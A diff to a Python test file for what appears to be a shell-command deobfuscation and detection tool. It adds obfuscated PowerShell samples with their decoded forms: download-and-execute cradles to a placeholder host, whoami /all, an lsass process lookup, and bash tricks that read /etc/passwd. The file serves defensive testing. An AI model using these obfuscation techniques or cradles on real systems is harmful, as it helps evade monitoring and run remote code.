@@ -49,7 +49,7 @@ INVERTED = {
     *(
         f"powershell/{n}"
         for n in "encoded-command deflate char-codes concat format join reverse replace backtick random-case "
-        "aliases bxor".split()
+        "aliases bxor wildcard layer0 comments".split()
     ),
 }
 
@@ -97,6 +97,50 @@ def _enc(text: str) -> str:
         ("&([char]73+[char]69+'X') 'whoami'", "powershell", "whoami", "string expression folded"),
         ("iex (-join('imaohw'[-1..-6]))", "powershell", "whoami", "string expression folded"),
         ("iex ('wh#oa#mi' -replace '#','')", "powershell", "whoami", "string expression folded"),
+        # PowerShell parts built in place (Invoke-PSObfuscation's "layer 0"), commands found by lookup (CradleCrafter)
+        (
+            "& ((\"Wxq-ohmabi\")[0,5,4,7,6,9] -join '') /all",
+            "powershell",
+            "whoami /all",
+            "string expression folded (command name)",
+        ),
+        (
+            "& ([string]::join('', ( (119,104,111,97,109,105) |%{ ( [char][int] $_)}))) /all",
+            "powershell",
+            "whoami /all",
+            "string expression folded (command name)",
+        ),
+        (
+            "Write-Output $([char](0+84-0)+[char](5*114/5)+[char](17+117-17)+[char](0+101-0))",
+            "powershell",
+            "write-output 'True'",
+            "string expression folded (subexpression)",
+        ),
+        ("Start-Sleep -Seconds $(0-80+80+85)", "powershell", "start-sleep -seconds 85", "string expression folded"),
+        ("Get-Process <##>|%{;$_}<#x1#>| Stop-Process", "powershell", "get-process | stop-process", "inline <# #>"),
+        ("Get-Process |%{$_;}| Stop-Process", "powershell", "get-process | stop-process", "no-op pipeline stage"),
+        ("&(gcm I*e-W*t) -Uri http://x", "powershell", "invoke-webrequest -uri http://x", "glob I*e-W*t ->"),
+        (".(Get-Command *w-O*) Net.WebClient", "powershell", "new-object net.webclient", "glob *w-O* ->"),
+        ("$x|&(gal i?x)", "powershell", "$x|invoke-expression", "glob i?x -> iex"),
+        (
+            "& $ExecutionContext.InvokeCommand.GetCommand('Invoke-WebRequest','Cmdlet') http://x",
+            "powershell",
+            "& invoke-webrequest http://x",
+            "command looked up by name",
+        ),
+        (
+            "(New-Object Net.WebClient).('Down'+'loadString').Invoke('http://x')|iex",
+            "powershell",
+            "(new-object net.webclient).downloadstring('http://x')|invoke-expression",
+            "string expression folded (member name)",
+        ),
+        ("$wc.\"DoWnLoAdStRiNg\"('http://x')", "powershell", "$wc.downloadstring('http://x')", "string expression"),
+        ("[ScriptBlock]::Create('whoami /all').Invoke()", "powershell", "whoami /all", "script block unwrapped"),
+        ("$ExecutionContext.InvokeCommand.InvokeScript('whoami')", "powershell", "whoami", "script block unwrapped"),
+        ("icm ([scriptblock]::Create('net user'))", "powershell", "net user", "script block unwrapped"),
+        ("&($pshome[4]+$pshome[30]+'x') 'whoami'", "powershell", "whoami", "string expression folded"),
+        ("$a='Get-';$b='Process';& ($a+$b) lsass", "powershell", "$a='Get-';$b='Process';get-process lsass", "string"),
+        ("$x='who'+'ami';&$x /all", "powershell", "$x='who'+'ami';whoami /all", "string expression folded"),
         # bash
         ("c''at /e\\tc/pa\"ss\"wd", "bash", "cat /etc/passwd", "quotes inside a word removed"),
         ("$'\\x63\\x61\\x74' /etc/passwd", "bash", "cat /etc/passwd", "$'..' ANSI-C escapes decoded"),
@@ -242,6 +286,14 @@ def test_cmd_loops_over_files_and_plain_settings_are_not_reported_as_unrolled_or
         ("for /r C:\\Logs %f in (*.log) do del %f", "cmd"),
         ("mv $1 `echo $1 | tr '[:upper:]' '[:lower:]'`", "bash"),  # tr of a script argument: nothing decoded
         ("column <<< \"$(printf '%s\\n' $module)\"", "bash"),
+        # PowerShell: an exact lookup, a listing by wildcard, a computed value that is not static, a script block
+        ("& (Get-Command python).Source --version", "powershell"),
+        ("Get-Command *-AD* | Measure-Object", "powershell"),
+        ('Write-Host "Build $(Get-Date -Format yyyyMMdd)" $(Get-Date)', "powershell"),
+        ("$sum = 0; 1..10 | ForEach-Object { $sum += $_ }; $sum", "powershell"),
+        ("[ScriptBlock]::Create($code) | Out-Null", "powershell"),
+        ("$exe = 'C:\\Tools\\setup.exe'; & $exe /S", "powershell"),  # a literal in a variable: how scripts call
+        ("Invoke-Command -ComputerName srv01 -ScriptBlock { Get-Service W32Time }", "powershell"),
     ],
 )
 def test_what_scripts_and_administrators_write_is_not_reported(line, shell):
